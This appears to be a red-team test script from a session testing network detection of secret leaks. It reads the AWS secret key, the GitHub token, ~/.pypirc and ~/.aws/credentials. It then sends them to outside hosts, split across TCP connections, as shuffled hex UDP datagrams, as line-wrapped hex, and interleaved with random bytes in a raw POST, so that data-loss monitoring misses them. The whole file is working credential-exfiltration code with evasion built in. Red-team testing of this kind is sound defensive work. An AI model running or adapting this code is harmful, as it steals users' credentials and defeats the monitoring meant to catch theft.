# Secrets split over flows with a frame around each piece, or out of
# order, and hex wrapped in lines (red team, session 24). Each was a
# medium network finding: the joined flows held no stretch with a secret
# whole, and hex runs stopped at a line break.
#  - the AWS secret key 10 bytes a TCP connection, each behind "<n>:",
#    to four ports of one host;
#  - the GitHub token as hex, 16 digits a UDP datagram to a non-DNS port,
#    each datagram "seq=<n>;d=<hex>", sent in a shuffled order;
#  - ~/.pypirc as `xxd -p` prints it (60 hex digits a line), one
#    datagram (no tool needed: the lines are made here);
#  - the AWS secret key of ~/.aws/credentials a byte in 8, 7 random
#    bytes after each, POSTed.
import os
import random
import socket

H = os.path.expanduser("~")
sec = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
gh = os.environ.get("GITHUB_TOKEN", "").encode().hex()


def tcp(port, data):
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect(("203.0.113.71", port))
        s.sendall(data)
    except OSError as e:
        print("tcp", port, e)
    finally:
        s.close()


for i in range(4):
    tcp(7000 + i, b"%d:%s" % (i, sec[i * 10:(i + 1) * 10].encode()))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
chunks = [(i // 16, gh[i:i + 16]) for i in range(0, len(gh), 16)]
random.shuffle(chunks)
for n, c in chunks:
    try:
        u.sendto(b"seq=%d;d=%s" % (n, c.encode()), ("203.0.113.72", 6000))
    except OSError as e:
        print("udp", e)
with open(H + "/.pypirc", "rb") as f:
    x = f.read().hex()
try:
    u.sendto("\n".join(x[i:i + 60] for i in range(0, len(x), 60)).encode() + b"\n", ("203.0.113.73", 5000))
except OSError as e:
    print("udp", e)
with open(H + "/.aws/credentials") as f:
    key = [l.split("=", 1)[1].strip() for l in f if l.startswith("aws_secret_access_key")][0]
body = b"".join(c.encode() + os.urandom(7) for c in key)
s = socket.socket()
s.settimeout(3)
try:
    s.connect(("203.0.113.74", 80))
    s.sendall(b"POST /t HTTP/1.1\r\nHost: t\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    s.recv(100)
except OSError as e:
    print("post", e)
print("sent")
